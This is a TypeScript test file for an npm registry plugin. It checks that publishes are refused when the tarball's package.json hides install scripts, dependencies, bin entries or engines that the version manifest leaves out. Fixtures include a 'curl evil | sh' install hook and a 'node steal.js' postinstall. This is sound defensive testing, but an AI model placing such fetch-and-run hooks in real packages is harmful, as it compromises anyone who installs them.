import { createFormatHarness, type FormatHarness } from '@depot/testkit';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { npmFormat } from '../src/index.js';
import { type HarnessResponse, makeTgz, packageTgz, publish } from './helpers.js';

let h: FormatHarness;
beforeEach(async () => {
  h = await createFormatHarness({ format: npmFormat() });
  await h.createRepo({ name: 'r' });
});
afterEach(() => h.close());

const refused = (res: HarnessResponse, field: string): void => {
  expect(res.status, res.text()).toBe(400);
  const body = res.json<{ error: string; code: string }>();
  expect(body.code).toBe('BAD_REQUEST');
  expect(body.error).toContain(field);
};

/** Publishes a document whose version manifest carries `doc` over a tarball whose package.json carries `tar`. */
const confused = (doc: Record<string, unknown>, tar: Record<string, unknown>, files: string[] = []) =>
  publish(h, 'r', 'p', '1.0.0', {
    manifest: doc,
    tgz: makeTgz([
      { path: 'package/package.json', body: JSON.stringify({ name: 'p', version: '1.0.0', ...tar }) },
      ...files.map((path) => ({ path: `package/${path}`, body: 'x' })),
    ]),
  });

describe('npm publish refuses manifest confusion', () => {
  it('a tarball install script, dependency, bin, os or engines the document hides → 400 naming the field', async () => {
    refused(
      await confused({ scripts: { test: 'x' } }, { scripts: { test: 'x', install: 'curl evil | sh' } }),
      'scripts',
    );
    refused(await confused({}, { scripts: { postinstall: 'node steal.js' } }), 'scripts');
    refused(await confused({ dependencies: { a: '^1' } }, { dependencies: { a: '^1', evil: '*' } }), 'dependencies');
    refused(await confused({ dependencies: { a: '^1' } }, { dependencies: { a: 'file:../x' } }), 'dependencies');
    refused(await confused({}, { optionalDependencies: { evil: '*' } }), 'optionalDependencies');
    refused(await confused({}, { peerDependencies: { evil: '*' } }), 'peerDependencies');
    refused(await confused({ bin: { p: 'cli.js' } }, { bin: { p: 'cli.js', ls: 'evil.js' } }), 'bin');
    refused(await confused({}, { bin: 'evil.js' }), 'bin');
    refused(await confused({}, { bundleDependencies: ['evil'] }), 'bundleDependencies');
    refused(await confused({ os: ['linux'] }, { os: ['darwin'] }), 'os');
    refused(await confused({}, { engines: { node: '>=99' } }), 'engines');
    refused(await confused({ scripts: { install: 'node-gyp rebuild' } }, {}), 'scripts');
    const both = await confused({}, { scripts: { install: 'x' }, dependencies: { evil: '*' } });
    refused(both, 'dependencies');
    refused(both, 'scripts');
    expect((await h.engine.list('r')).artifacts).toEqual([]);
    expect((await h.kv.list({ prefix: 'fmt/npm/' })).entries).toEqual([]);
  });

  it('accepts what npm publish itself normalises', async () => {
    const ok = async (doc: Record<string, unknown>, tar: Record<string, unknown>, files: string[] = []) => {
      const res = await confused(doc, tar, files);
      expect(res.status, res.text()).toBe(201);
      await h.request({ method: 'DELETE', repo: 'r', path: `p/-rev/${await packumentRev()}` });
    };
    const packumentRev = async () =>
      (await h.request({ method: 'GET', repo: 'r', path: 'p', query: { write: 'true' } })).json<{ _rev: string }>()
        ._rev;
    await ok({ bin: { p: 'cli.js' } }, { bin: './cli.js' });
    await ok({ scripts: { install: 'node-gyp rebuild' }, gypfile: true }, {}, ['binding.gyp']);
    await ok({}, {}, ['binding.gyp']);
    await ok({ directories: { bin: './bin' }, bin: { a: 'bin/a', b: 'bin/b' } }, { directories: { bin: './bin' } }, [
      'bin/a',
      'bin/b',
    ]);
    await ok(
      { dependencies: { a: '^1' }, optionalDependencies: { b: '^2' } },
      { dependencies: { a: '^1', b: '^2' }, optionalDependencies: { b: '^2' } },
    );
    await ok({ dependencies: { g: 'github:user/repo#v1' } }, { dependencies: { g: 'user/repo#v1' } });
    await ok(
      { bundleDependencies: ['a'], dependencies: { a: '1' } },
      { bundledDependencies: true, dependencies: { a: '1' } },
    );
    await ok({ main: 'other.js', scripts: { test: 'a' } }, { main: 'index.js', scripts: { test: 'b' } });
    expect((await publish(h, 'r', 'p', '1.0.0', { tgz: packageTgz('p', '1.0.0') })).status).toBe(201);
  });

  it('a tarball without package/package.json or with a corrupt gzip → 400, nothing stored', async () => {
    expect(
      (await publish(h, 'r', 'p', '1.0.0', { tgz: makeTgz([{ path: 'package/index.js', body: 'x' }]) })).status,
    ).toBe(400);
    const good = packageTgz('p', '1.0.0');
    const corrupt = new Uint8Array(good);
    corrupt.fill(0x55, 20, 60);
    expect((await publish(h, 'r', 'p', '1.0.0', { tgz: corrupt })).status).toBe(400);
    expect((await publish(h, 'r', 'p', '1.0.0', { tgz: good.subarray(0, good.byteLength - 12) })).status).toBe(400);
    expect((await h.engine.list('r')).artifacts).toEqual([]);
    expect((await h.kv.list({ prefix: 'fmt/npm/' })).entries).toEqual([]);
  });
});
